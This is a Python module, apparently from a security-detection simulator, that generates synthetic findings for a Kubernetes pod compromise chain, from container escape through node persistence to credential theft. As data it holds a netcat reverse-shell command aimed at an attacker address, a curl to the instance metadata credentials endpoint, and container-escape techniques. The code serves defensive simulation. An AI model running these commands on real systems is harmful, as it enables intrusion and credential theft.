"""A pod is broken into; the attacker gets out to the node, then to secrets, other pods and the node's role.

The processes on the node descend from the pod's. Only the process tree shows it, since the node's findings
name no workload.
"""

from __future__ import annotations

from typing import Any

from tracehound.simulator.builders.cloud import api_calls, task_credentials
from tracehound.simulator.builders.kubernetes import Request, audit_log, service_account
from tracehound.simulator.builders.runtime import always, runtime
from tracehound.simulator.chains import child, web_shell
from tracehound.simulator.finding import Reported
from tracehound.simulator.networks import private_ip
from tracehound.simulator.organization import EksWorkload
from tracehound.simulator.processes import Process, binary_hash
from tracehound.simulator.scene import HOUR, Scene
from tracehound.simulator.stories.attackers import Attacker, conclude, new_attacker
from tracehound.simulator.workplaces import Workplace

Json = dict[str, Any]
_LASTS = 8 * HOUR
# Ways to escape: type, context, and programs that do it.
_ESCAPES: tuple[tuple[str, Json, tuple[str, str]], ...] = (
    (
        "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
        {
            "mountSource": "/dev/nvme0n1p1",
            "mountTarget": "/mnt",
            "fileSystemType": "xfs",
            "flags": ["MS_NOATIME"],
        },
        ("/bin/mount", "/usr/bin/mount"),
    ),
    (
        "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
        {"releaseAgentPath": "/tmp/cgrp/release_agent"},
        ("/usr/bin/tee", "/usr/bin/python3.12"),
    ),
    (
        "PrivilegeEscalation:Runtime/DockerSocketAccessed",
        {"socketPath": "/var/run/docker.sock"},
        ("/usr/bin/curl", "/usr/bin/python3.12"),
    ),
    (
        "PrivilegeEscalation:Runtime/RuncContainerEscape",
        {"runcBinaryPath": "/usr/sbin/runc"},
        ("/tmp/poc", "/usr/bin/python3.12"),
    ),
)

_NODE_STEPS: tuple[tuple[str, str, Json, str], ...] = (
    (
        "Persistence:Runtime/SensitiveFileModified",
        "/usr/bin/tee",
        {"filePath": "/root/.ssh/authorized_keys", "fileOperation": "WRITE"},
        "node_persistence",
    ),
    (
        "Execution:Runtime/SuspiciousCommand",
        "/usr/bin/curl",
        {"commandLineExample": "curl 169.254.169.254/latest/meta-data/iam/security-credentials/"},
        "node_credentials",
    ),
)


def play(scene: Scene) -> None:
    """One campaign: 5 to 9 findings over some hours, half of the time with an attack sequence."""
    rng = scene.rng
    workload, attacker = rng.choice(scene.world.workloads), new_attacker(scene, addresses=2)
    pod = scene.pod(workload, scene.start, _LASTS)
    shell = web_shell(rng, pod.tree, scene.start)
    findings = [_shell_finding(scene, pod, shell, attacker)]
    findings += _escape(scene, workload, pod, shell)
    findings += _move_on(scene, workload, attacker, scene.soon(findings[-1].last_seen, 200, HOUR))
    if rng.random() < 0.6:
        subject = f"cluster {workload.cluster['name']}"
        conclude(scene, workload.detector, "AttackSequence:EKS/CompromisedCluster", subject, findings)


def _shell_finding(scene: Scene, pod: Workplace, shell: Process, attacker: Attacker) -> Reported:
    type_ = scene.rng.choice(("Execution:Runtime/ReverseShell", "Execution:Runtime/SuspiciousCommand"))
    address = attacker.remotes[0]["ipAddressV4"]
    command = f"sh -c mkfifo /tmp/p; sh -i < /tmp/p 2>&1 | nc {address} 4444 > /tmp/p"
    context = {"commandLineExample": command}
    if type_ == "Execution:Runtime/ReverseShell":
        context |= {"addressFamily": "AF_INET"}
    return scene.report(
        runtime(scene.rng, pod, type_, always(shell), context=context), "shell", shell.start + 1
    )


def _escape(scene: Scene, workload: EksWorkload, pod: Workplace, shell: Process) -> list[Reported]:
    rng = scene.rng
    at = scene.soon(shell.start, 60, 900)
    type_, context, programs = rng.choice(_ESCAPES)
    tool = child(rng, pod.tree, shell, rng.choice(programs), at)
    draft = runtime(rng, pod, type_, always(tool), context=context)
    escape = scene.report(draft, "escape", at + 1)
    return [escape, *_act_on_node(scene, workload, pod, tool)]


def _act_on_node(scene: Scene, workload: EksWorkload, pod: Workplace, tool: Process) -> list[Reported]:
    rng, findings = scene.rng, []
    node = scene.places.host(workload.node, workload.cluster)
    at = scene.soon(tool.start, 30, 600)
    gate = _start_on_node(scene, pod, node, parent=tool, path="/usr/bin/nsenter", at=at)
    root = _start_on_node(scene, pod, node, parent=gate, path="/usr/bin/bash", at=at + 0.4)
    for type_, path, facts, role in rng.sample(_NODE_STEPS, rng.randint(1, 2)):
        at = scene.soon(at, 20, 400)
        process = _start_on_node(scene, pod, node, parent=root, path=path, at=at)
        draft = runtime(rng, node, type_, always(process), context=facts)
        findings.append(scene.report(draft, role, at + 1))
    return findings


def _start_on_node(
    scene: Scene, pod: Workplace, node: Workplace, *, parent: Process, path: str, at: float
) -> Process:
    """A process below the pod's, but with the node's binary and outside the pod's namespaces."""
    sha256 = binary_hash(node.tree.flavour, path)
    return pod.tree.spawn(scene.rng, parent, path, at, sha256=sha256, outside=True)


def _move_on(scene: Scene, workload: EksWorkload, attacker: Attacker, at: float) -> list[Reported]:
    rng = scene.rng
    subject = service_account(workload)
    node_ip = private_ip(workload.node.private_ip)
    requests = [
        (
            "CredentialAccess:Kubernetes/AnomalousBehavior.SecretsAccessed",
            Request("list", "secrets", workload.namespace, None),
            "secrets",
        ),
        (
            "Execution:Kubernetes/AnomalousBehavior.ExecInPod",
            Request("create", "pods", "kube-system", "kube-proxy-x7k2f", "exec"),
            "lateral_movement",
        ),
    ]
    findings = []
    for type_, request, role in requests[: rng.randint(1, 2)]:
        draft = audit_log(rng, workload, type_, subject, request, remote=lambda: node_ip)
        findings.append(scene.report(draft, role, at))
        at = scene.soon(at, 60, 1200)
    if rng.random() < 0.6:
        node = scene.places.host(workload.node, workload.cluster)
        draft = api_calls(
            rng,
            workload.detector,
            "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS",
            task_credentials(rng, workload.node.role, node),
            (("DescribeInstances", "ec2"), ("GetAuthorizationToken", "ecr")),
            remote=attacker.remote(rng),
        )
        findings.append(scene.report(draft, "node_role", at))
    return findings
